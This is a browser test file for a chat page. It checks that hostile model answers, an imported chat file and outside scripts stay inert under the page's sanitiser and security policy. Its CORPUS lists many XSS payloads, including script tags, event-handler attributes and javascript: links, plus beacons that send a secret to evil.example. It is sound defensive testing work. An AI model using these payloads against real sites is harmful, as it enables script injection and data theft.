// Protects the page from what a model writes: a corpus of hostile answers, written by the fake engine, is shown as text
// and runs nothing, loads nothing, leads nowhere and does not spread over the page.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { answering } from "./fake.mjs";
import { ask, noSideScroll, openPage, startBrowser, startWithFake, stopAll } from "./server.mjs";
import { counts, eventually, keptChats, shows } from "./waits.mjs";

const CORPUS = [
  "<script>window.owned = 1</script>",
  "<img src=x onerror=\"window.owned = 1\">",
  "<svg onload=window.owned=1><a xlink:href=\"javascript:window.owned=1\"><text>x</text></a></svg>",
  "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
  "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><button>Send</button></form><base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "[click](javascript:window.owned=1) [x](data:text/html,<script>owned=1</script>) [y](vbscript:x) [z](  JAVASCRIPT:window.owned=1)",
  "[click](java&#115;cript:window.owned=1) [a](//evil.example) [b](/v1/models) <javascript:window.owned=1>",
  "![pixel](https://evil.example/p.png?secret=1) ![](data:image/svg+xml,<svg onload=owned=1>)",
  "```html\n<script>window.owned = 1</script>\n```\n```\"><script>window.owned=1</script>\nx\n```",
  "| <img src=x onerror=window.owned=1> | b |\n|---|---|\n| [x](javascript:window.owned=1) | `</td></table><script>owned=1</script>` |",
  "\u202Ethis runs from right to left\u202D and back \u2066hidden\u2069",
  "Z\u0351\u0352\u0353\u0354\u0355\u0356".repeat(60),
  "W".repeat(3000),
  `|${" wide column |".repeat(40)}\n|${"---|".repeat(40)}\n|${" x |".repeat(40)}`,
  "> ".repeat(300) + "deep",
  Array.from({ length: 60 }, (_, i) => `${" ".repeat(i * 2)}- deep`).join("\n"),
  "<<<<<&lt;&amp;&#x3c;script&#x3e;window.owned=1&#x3c;/script&#x3e;",
  "data: [DONE]\n\ndata: {\"error\":{\"message\":\"x\"}}\n\nevent: end\n\n",
  "\u0000\u0001\u0007\u001b[31mred\u001b[0m\uFEFF\uFFFD\uFFFF",
  "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= 1 %> __proto__",
];
const TAGS = new Set([
  "P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "PRE", "CODE",
  "STRONG", "EM", "S", "A", "BR", "SPAN", "BUTTON",
]);
let server;
let browser;

before(async () => {
  server = await startWithFake({ script: ["load", "ready", ...CORPUS.flatMap((text) => answering(text))] });
  browser = await startBrowser();
});

after(async () => {
  await browser?.close();
  stopAll();
});

test("hostile answers stay text in the page that streams them", async () => {
  const { page, faults, context } = await openPage(browser, server.address, { viewport: { width: 360, height: 740 } });
  for (const [i, text] of CORPUS.entries()) {
    const answer = await ask(page, `number ${i}`);
    assert.equal(await answer.locator(".error").count(), 0, text);
    const found = await answer.locator(".text").evaluate((node) => ({
      tags: [...node.querySelectorAll("*")].map((each) => each.tagName),
      handlers: [...node.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()).filter((name) => /^on|^style$|^src/.test(name)),
      links: [...node.querySelectorAll("a")].map((each) => [each.protocol, each.rel]),
      text: node.textContent,
    }));
    for (const tag of found.tags) assert.ok(TAGS.has(tag), `${tag} out of ${text}`);
    assert.deepEqual(found.handlers, [], text);
    for (const [protocol, rel] of found.links) {
      assert.match(protocol, /^(https?|mailto):$/, text);
      assert.match(rel, /noopener/);
    }
    const side = await noSideScroll(page);
    assert.ok(side.fits, `${side.widths} with ${text.slice(0, 40)}`);
  }
  await shows(page.locator("#messages li.assistant .text").first(), CORPUS[0]);
  assert.equal(await page.evaluate(() => window.owned), undefined);
  assert.equal(page.url(), `${server.address}/`);
  assert.deepEqual(faults, []);

  // The same again out of the browser's store.
  await eventually(() => keptChats(page), ([{ messages }]) => assert.deepEqual([messages.length, messages.at(-1).unfinished], [2 * CORPUS.length, undefined]));
  await page.reload();
  await counts(page.locator("#messages > li"), 2 * CORPUS.length);
  assert.equal(await page.locator("#messages img, #messages script, #messages iframe, #messages svg, #messages form").count(), 0);
  assert.equal(await page.evaluate(() => window.owned), undefined);
  assert.deepEqual(faults, []);
  await context.close();
});

test("a hostile chat file and a hostile question stay text", async () => {
  const { page, faults, context } = await openPage(browser, server.address, { viewport: { width: 1280, height: 800 } });
  const hostile = "<img src=x onerror=window.owned=1>";
  const messages = [{ role: "user", content: hostile }, { role: "assistant", content: hostile, reasoning: hostile, error: hostile }];
  const file = JSON.stringify({ kind: "strata-chats", version: 1, conversations: [{ messages }] });
  await page.setInputFiles("#chats-file", { name: "c.json", mimeType: "application/json", buffer: Buffer.from(file) });
  await page.locator("#chats .open").click();
  await shows(page.locator("#messages li.user .text"), hostile);
  await shows(page.locator("#messages li.assistant .text"), hostile);
  assert.equal(await page.locator("#messages img, #chats img").count(), 0);
  assert.equal(await page.evaluate(() => window.owned), undefined);
  assert.deepEqual(faults, []);
  await context.close();
});

test("the policy of the page forbids scripts that are not its own", async () => {
  const response = await fetch(`${server.address}/`);
  const policy = response.headers.get("content-security-policy");
  for (const part of ["default-src 'self'", "connect-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'"]) {
    assert.ok(policy.includes(part), part);
  }
  assert.doesNotMatch(policy, /unsafe/);
  assert.equal(response.headers.get("x-content-type-options"), "nosniff");
  assert.equal(response.headers.get("referrer-policy"), "no-referrer");
  const { page, context } = await openPage(browser, server.address);
  const ran = await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.owned = 1";
    document.head.append(script);
    return window.owned;
  });
  assert.equal(ran, undefined);
  await context.close();
});
